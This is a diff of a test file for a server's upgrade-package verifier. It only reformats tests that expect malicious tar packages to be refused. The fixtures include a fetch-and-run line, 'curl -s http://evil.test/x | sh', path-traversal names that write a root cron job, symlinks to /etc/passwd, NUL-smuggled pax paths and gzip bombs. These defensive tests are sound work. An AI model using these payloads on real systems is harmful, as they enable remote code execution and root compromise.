@@ -29,7 +29,9 @@ let unsignedRoot: AuthHeaders;
 
 beforeAll(async () => {
   // One after the other: starting two servers at once can pass the plugin start timeout on a busy machine.
-  signed = await startTestServer({ config: { dataDir, upgradePublicKey: keys.publicKey.export({ type: 'spki', format: 'pem' }).toString() } });
+  signed = await startTestServer({
+    config: { dataDir, upgradePublicKey: keys.publicKey.export({ type: 'spki', format: 'pem' }).toString() },
+  });
   unsigned = await startTestServer({ config: { dataDir } });
   signedRoot = await login(signed.app, DEMO_MEMBERS.admin, DEMO_PASSWORD);
   unsignedRoot = await login(unsigned.app, DEMO_MEMBERS.admin, DEMO_PASSWORD);
@@ -66,7 +68,13 @@ const script = '#!/bin/sh\ncurl -s http://evil.test/x | sh\n';
 
 describe('every entry of a package is one its signed manifest lists', () => {
   it('a signed package with an extra install.sh is refused, naming it', async () => {
-    const message = await expectRefused(signed, signedRoot, signedWith('5.0.1', [{ name: 'install.sh', content: script, mode: 0o755 }]), 400, 'UNLISTED_ENTRY');
+    const message = await expectRefused(
+      signed,
+      signedRoot,
+      signedWith('5.0.1', [{ name: 'install.sh', content: script, mode: 0o755 }]),
+      400,
+      'UNLISTED_ENTRY',
+    );
     expect(message).toContain('"install.sh"');
   });
 
@@ -78,8 +86,20 @@ describe('every entry of a package is one its signed manifest lists', () => {
   });
 
   it('an unsigned package with a traversal name is refused too (no UPGRADE_PUBLIC_KEY)', async () => {
-    await expectRefused(unsigned, unsignedRoot, makeUpgradePackage({ grm: '5.0.3', extra: [{ name: '../../../../etc/cron.d/x', content: '* * * * * root sh /tmp/x\n' }] }), 400, 'UNSAFE_ENTRY');
-    await expectRefused(unsigned, unsignedRoot, makeUpgradePackage({ grm: '5.0.4', extra: [{ name: 'install.sh', content: script }] }), 400, 'UNLISTED_ENTRY');
+    await expectRefused(
+      unsigned,
+      unsignedRoot,
+      makeUpgradePackage({ grm: '5.0.3', extra: [{ name: '../../../../etc/cron.d/x', content: '* * * * * root sh /tmp/x\n' }] }),
+      400,
+      'UNSAFE_ENTRY',
+    );
+    await expectRefused(
+      unsigned,
+      unsignedRoot,
+      makeUpgradePackage({ grm: '5.0.4', extra: [{ name: 'install.sh', content: script }] }),
+      400,
+      'UNLISTED_ENTRY',
+    );
   });
 
   it('links, devices and directories are refused, whatever they are called', async () => {
@@ -89,10 +109,19 @@ describe('every entry of a package is one its signed manifest lists', () => {
       { name: 'disk', type: '4' },
       { name: 'etc/', type: '5' },
     ];
-    for (const entry of cases) await expectRefused(unsigned, unsignedRoot, makeUpgradePackage({ gmp: '5.0.5', extra: [entry] }), 400, 'UNSAFE_ENTRY');
+    for (const entry of cases)
+      await expectRefused(unsigned, unsignedRoot, makeUpgradePackage({ gmp: '5.0.5', extra: [entry] }), 400, 'UNSAFE_ENTRY');
     // The payload itself as a symlink: the manifest names it, but its bytes are not what was signed.
     const linked = writeTar([
-      { name: 'manifest.json', content: JSON.stringify({ format: 'shelfpad-upgrade/1', gmp: '5.0.6', payload: 'payload.bin', sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' }) },
+      {
+        name: 'manifest.json',
+        content: JSON.stringify({
+          format: 'shelfpad-upgrade/1',
+          gmp: '5.0.6',
+          payload: 'payload.bin',
+          sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        }),
+      },
       { name: 'payload.bin', type: '2', linkName: '/usr/local/bin/node' },
     ]);
     await expectRefused(unsigned, unsignedRoot, linked, 400, 'UNSAFE_ENTRY');
@@ -102,7 +131,13 @@ describe('every entry of a package is one its signed manifest lists', () => {
     const sneaky = signedWith('5.0.7', [paxHeader({ path: '../../../../etc/cron.d/x' }), { name: 'harmless.txt', content: script }]);
     const message = await expectRefused(signed, signedRoot, sneaky, 400, 'UNSAFE_ENTRY');
     expect(message).toContain('../../../../etc/cron.d/x');
-    await expectRefused(signed, signedRoot, signedWith('5.0.8', [paxHeader({ linkpath: '/etc/passwd' }), { name: 'x', content: '' }]), 400, 'UNSAFE_ENTRY');
+    await expectRefused(
+      signed,
+      signedRoot,
+      signedWith('5.0.8', [paxHeader({ linkpath: '/etc/passwd' }), { name: 'x', content: '' }]),
+      400,
+      'UNSAFE_ENTRY',
+    );
   });
 
   it('still accepts a signed package packed by GNU tar in pax format, with ./ names', async () => {
@@ -134,7 +169,10 @@ describe('what else a package may not hold', () => {
     const cases: [Buffer, string][] = [
       [makeUpgradePackage({ version: '6.0.1', extra: [{ name: 'manifest.sig', content: 'x', mode: 0o4755 }] }), 'UNSAFE_ENTRY'],
       [makeUpgradePackage({ version: '6.0.2', extra: [{ name: './payload.bin', content: 'another payload' }] }), 'UNSAFE_ENTRY'],
-      [makeUpgradePackage({ version: '6.0.3', extra: [paxHeader({ path: 'payload.bin\0../../x' }), { name: 'y', content: '' }] }), 'UNSAFE_ENTRY'],
+      [
+        makeUpgradePackage({ version: '6.0.3', extra: [paxHeader({ path: 'payload.bin\0../../x' }), { name: 'y', content: '' }] }),
+        'UNSAFE_ENTRY',
+      ],
       [makeUpgradePackage({ version: '6.0.4', extra: [{ name: 'docs/README', content: 'hi' }] }), 'UNLISTED_ENTRY'],
       // `tar -i` reads on past zero blocks: what hides there would be unpacked.
       [Buffer.concat([good, writeTar([{ name: 'install.sh', content: script }])]), 'NOT_A_PACKAGE'],
@@ -152,8 +190,13 @@ describe('what else a package may not hold', () => {
     expect(await refusal(tinyFiles)).toMatchObject({ status: 400, code: 'UNLISTED_ENTRY', message: expect.stringContaining('"f3"') });
     const tinyHeaders = writeTar(Array.from({ length: 5000 }, () => paxHeader({ mtime: '1' })));
     expect(await refusal(tinyHeaders)).toMatchObject({ status: 413, code: 'PACKAGE_TOO_LARGE' });
-    expect(await refusal(makeUpgradePackage({ version: '6.1.0' }), { ...TAR_LIMITS, maxSmallEntryBytes: 64 })).toMatchObject({ status: 413, code: 'PACKAGE_TOO_LARGE' });
-    expect(await refusal(makeUpgradePackage({ version: '6.1.1', payload: 'x'.repeat(4096) }), { ...TAR_LIMITS, maxUnpackedBytes: 4096 })).toMatchObject({ status: 413 });
+    expect(await refusal(makeUpgradePackage({ version: '6.1.0' }), { ...TAR_LIMITS, maxSmallEntryBytes: 64 })).toMatchObject({
+      status: 413,
+      code: 'PACKAGE_TOO_LARGE',
+    });
+    expect(
+      await refusal(makeUpgradePackage({ version: '6.1.1', payload: 'x'.repeat(4096) }), { ...TAR_LIMITS, maxUnpackedBytes: 4096 }),
+    ).toMatchObject({ status: 413 });
   });
 
   /** Gzip members: `start`, then `members` members of 1 MiB of zeros each (about 1 KiB compressed each). */
@@ -166,7 +209,10 @@ describe('what else a package may not hold', () => {
     }
   }
   /** A payload whose header declares 4 GiB, the zeros to follow. */
-  const hugePayload = Buffer.concat([writeTar({ 'manifest.json': '{}' }).subarray(0, 1024), tarHeader({ name: 'payload.bin' }, 4 * 1024 * MiB)]);
+  const hugePayload = Buffer.concat([
+    writeTar({ 'manifest.json': '{}' }).subarray(0, 1024),
+    tarHeader({ name: 'payload.bin' }, 4 * 1024 * MiB),
+  ]);
   const lazily = (chunks: Iterable<Buffer>) =>
     (async function* () {
       yield* chunks;
@@ -183,7 +229,10 @@ describe('what else a package may not hold', () => {
     ];
     for (const [start, limits] of cases) {
       const pulled = { count: 0 };
-      await expect(verifyUpgradePackage(lazily(gzipBomb(start, 4096, pulled)), undefined, limits)).rejects.toMatchObject({ status: 413, code: 'PACKAGE_TOO_LARGE' });
+      await expect(verifyUpgradePackage(lazily(gzipBomb(start, 4096, pulled)), undefined, limits)).rejects.toMatchObject({
+        status: 413,
+        code: 'PACKAGE_TOO_LARGE',
+      });
       // 4 GiB were on offer; reading stopped at the first limit passed, plus what the streams buffer ahead.
       expect(pulled.count).toBeLessThan(Math.min(limits.maxUnpackedBytes, limits.maxTrailerBytes) / MiB + 64);
     }
